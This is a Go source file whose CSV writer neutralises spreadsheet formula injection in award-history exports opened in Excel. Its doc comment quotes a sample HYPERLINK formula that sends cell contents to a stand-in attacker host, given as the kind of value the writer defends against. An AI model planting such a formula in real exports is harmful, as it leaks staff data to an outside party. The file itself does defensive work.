// SPDX-License-Identifier: Apache-2.0

package awardcsv

import (
	"bufio"
	"encoding/csv"
	"io"
)

// ExcelWriter writes CSV that Excel opens correctly on a Japanese Windows:
// UTF-8 with a byte order mark (without it Excel reads the file as
// Shift_JIS and garbles every Japanese character), CRLF line ends, and
// RFC 4180 quoting.
//
// # Formula injection
//
// A cell starting with "=", "+", "-", "@", a tab or a carriage return is
// written with a single quote (') in front, as OWASP recommends, so that a
// value such as `=HYPERLINK("http://evil.example/?"&A1)` typed into a
// badge or a name is shown as text and never run as a formula when staff
// open an export. The price is a visible apostrophe in front of such
// values, negative numbers included; exports of award history hold names,
// e-mail addresses, URLs and dates, so this is rare. Reading an export back
// is not a goal: [Parse] does not remove the apostrophe.
type ExcelWriter struct {
	buf  *bufio.Writer
	csv  *csv.Writer
	cell []string // reused for neutralised records
}

// NewExcelWriter returns a writer to w. The byte order mark is written
// first, on the first Flush at the latest, so even an empty export is read
// as UTF-8.
func NewExcelWriter(w io.Writer) *ExcelWriter {
	buf := bufio.NewWriter(w)
	_, _ = buf.Write(bomUTF8) // into an empty buffer: cannot fail
	// csv.NewWriter keeps a *bufio.Writer as it is, so the BOM and the
	// records share one buffer and come out in order.
	cw := csv.NewWriter(buf)
	cw.UseCRLF = true
	return &ExcelWriter{buf: buf, csv: cw}
}

// Write writes one record, neutralising formulas (see [ExcelWriter]). Like
// csv.Writer it buffers: call [ExcelWriter.Flush] and check
// [ExcelWriter.Error] at the end.
func (w *ExcelWriter) Write(record []string) error {
	w.cell = w.cell[:0]
	for _, c := range record {
		w.cell = append(w.cell, Neutralize(c))
	}
	return w.csv.Write(w.cell)
}

// WriteAll writes records and flushes, returning the first error.
func (w *ExcelWriter) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// Flush writes any buffered data to the underlying writer.
func (w *ExcelWriter) Flush() { w.csv.Flush() }

// Error returns the first error of a previous Write or Flush.
func (w *ExcelWriter) Error() error { return w.csv.Error() }

// Neutralize returns cell with a single quote in front when spreadsheet
// software would treat it as a formula (it starts with "=", "+", "-", "@",
// a tab or a carriage return), and cell unchanged otherwise.
func Neutralize(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + cell
	}
	return cell
}
